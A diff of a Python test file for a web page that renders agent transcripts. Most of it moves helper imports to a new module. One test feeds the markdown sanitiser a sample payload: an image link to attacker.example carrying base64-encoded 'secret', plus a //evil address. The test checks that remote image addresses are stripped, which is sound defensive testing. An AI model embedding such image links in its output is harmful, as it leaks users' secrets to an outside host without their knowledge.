@@ -4,7 +4,8 @@ from datetime import UTC, datetime
 from typing import Any
 
 from tasks.core.transcript import EventRead
-from tasks.http.pages.timeline import build, duration
+from tasks.http.pages.timeline import build
+from tasks.http.pages.timeline_items import duration
 from tasks.http.pages.tool_cards import FOLD_LINES, edit_diff, tool_fields
 
 AT = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
@@ -127,7 +128,7 @@ def test_a_message_rendered_again_is_the_same_sanitised_markup() -> None:
 def test_agent_markdown_sends_nothing_to_another_origin() -> None:
     """An agent that puts what it knows in an image address must not have the reviewer's browser
     fetch it: remote images lose their address (the alt text stays), local ones keep it."""
-    from tasks.http.pages.timeline import agent_markdown
+    from tasks.http.pages.timeline_items import agent_markdown
 
     html = str(agent_markdown("![leak](https://attacker.example/p.png?d=c2VjcmV0) ![ok](/static/x.png) ![p](//evil/x)"))
     assert "attacker.example" not in html and "//evil" not in html
@@ -286,7 +287,7 @@ def test_outcomes_are_an_exit_status_ok_or_error() -> None:
 
 
 def test_plumbing_is_one_line_without_empty_fields() -> None:
-    from tasks.http.pages.timeline import short_name
+    from tasks.http.pages.timeline_items import short_name
 
     call = ev(1, "model_call", provider="anthropic", model="m-1", status=200, input_tokens=1200, output_tokens=80,
               latency_ms=2400, ttfb_ms=None, cost_usd=None, error="", stream=True)  # fmt: skip
